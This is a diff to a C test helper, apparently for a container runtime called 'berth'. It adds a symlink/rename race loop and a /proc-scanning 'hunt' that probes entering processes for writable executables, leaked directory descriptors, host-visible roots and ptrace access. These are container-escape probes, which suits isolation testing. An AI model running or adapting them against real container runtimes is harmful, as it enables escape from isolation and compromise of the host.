@@ -11,10 +11,12 @@
 #include <netinet/in.h>
 #include <sched.h>
 #include <signal.h>
+#include <stdbool.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/prctl.h>
+#include <sys/ptrace.h>
 #include <sys/resource.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
@@ -593,6 +595,86 @@ static int run_get(int argc, char **argv)
 	return fflush(stdout);
 }
 
+/* ---- attacks --------------------------------------------------------------------------------- */
+
+/* Swaps two names for ever: a mount target that changes under the runtime's hands. */
+static int run_race(int argc, char **argv)
+{
+	if (argc < 2)
+		return 2;
+	for (;;)
+		if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], 2 /* EXCHANGE */) <
+			0)
+			return fail("renameat2");
+}
+
+static bool is_dir(const char *path)
+{
+	struct stat st;
+
+	return stat(path, &st) == 0 && S_ISDIR(st.st_mode);
+}
+
+/* What a process that enters the container could be robbed of: its program file, its descriptors,
+ * its root, itself. MARKER is a path of the host that the container does not have. */
+static void rob(int pid, const char *marker)
+{
+	char path[4096], exe[256];
+	ssize_t n;
+	int fd;
+
+	(void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
+	n = readlink(path, exe, sizeof exe - 1);
+	exe[n < 0 ? 0 : n] = '\0';
+	fd = open(path, O_WRONLY | O_CLOEXEC);
+	if (fd >= 0) {
+		(void)printf("robbed: %d: %s is writable\n", pid, exe);
+		(void)close(fd);
+	}
+	for (int i = 0; i < 64; i++) {
+		(void)snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, i);
+		if (is_dir(path))
+			(void)printf("robbed: %d: directory at descriptor %d\n", pid, i);
+	}
+	for (int i = 0; i < 2; i++) {
+		(void)snprintf(path, sizeof path, "/proc/%d/%s%s", pid, i ? "cwd" : "root", marker);
+		if (access(path, F_OK) == 0)
+			(void)printf("robbed: %d: its %s is the host's\n", pid, i ? "cwd" : "root");
+	}
+	if (strstr(exe, "berth") && ptrace(PTRACE_SEIZE, pid, NULL, NULL) == 0)
+		(void)printf("robbed: %d: traced\n", pid);
+}
+
+/* For every process it meets, again and again; says `seen N` for the Nth process now and then. */
+static int run_hunt(int argc, char **argv)
+{
+	long seen = 0;
+	int highest = 0;
+
+	if (argc < 1)
+		return 2;
+	for (;;) {
+		DIR *dir = opendir("/proc");
+		struct dirent *entry;
+
+		while (dir && (entry = readdir(dir))) {
+			int pid = atoi(entry->d_name);
+
+			if (pid <= 1 || pid == getpid())
+				continue;
+			rob(pid, argv[0]);
+			if (pid > highest) {
+				highest = pid;
+				if (++seen % 20 == 0)
+					(void)printf("seen %ld\n", seen);
+			}
+		}
+		if (dir)
+			(void)closedir(dir);
+		(void)fflush(stdout);
+	}
+}
+
 /* ---- main ------------------------------------------------------------------------------------ */
 
 static const struct {
@@ -614,6 +696,8 @@ static const struct {
 	{ "stamp", run_stamp, "                 CLOCK_MONOTONIC in nanoseconds" },
 	{ "orphans", run_orphans, "N                says how many zombies are left" },
 	{ "http", run_http, "PORT TEXT        answers every request with TEXT" },
+	{ "race", run_race, "A B              swaps the two names for ever" },
+	{ "hunt", run_hunt, "MARKER           attacks who enters; says what it robbed" },
 	{ "get", run_get, "HOST PORT [PATH] by /etc/hosts" },
 };
 
